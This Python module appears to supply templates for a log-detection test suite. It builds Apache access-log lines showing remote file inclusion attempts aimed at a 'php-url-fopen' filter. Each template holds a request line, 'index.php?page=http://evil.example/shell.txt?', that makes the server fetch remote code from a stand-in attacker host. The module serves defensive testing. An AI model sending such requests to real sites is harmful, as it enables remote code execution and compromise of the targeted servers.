"""Apache combined access log of a request whose query string carries a remote URL (remote file inclusion)."""

from __future__ import annotations

from ..spec import BARE, Field, Service, Template, hex_escape, ptr_name

PATH = Field("path", hex_escape, "shell.txt", "URL in the query string")
REF = Field("ref", hex_escape, "-", "Referer header")
UA = Field("ua", hex_escape, "Mozilla/4.0", "User-Agent header")
# with HostnameLookups On, Apache writes %h as the client's reverse name, unconfirmed: the client's zone chooses it
NAME = ptr_name("PTR name as %h (HostnameLookups On)")

SERVICE = Service(
    filter="php-url-fopen",
    daemon="apache2",
    prefixes=(BARE,),
    templates=(
        Template("rfi", '{A} - - [{clf}] "GET /index.php?page=http://evil.example/{path}? HTTP/1.1" 200 114 '
                 '"{ref}" "{ua}"', (PATH, REF, UA)),
        Template("rfi-name", '{name} - - [{clf}] "GET /index.php?page=http://evil.example/x? HTTP/1.1" 200 114 "-" "-"',
                 (NAME,), ()),
    ),
)
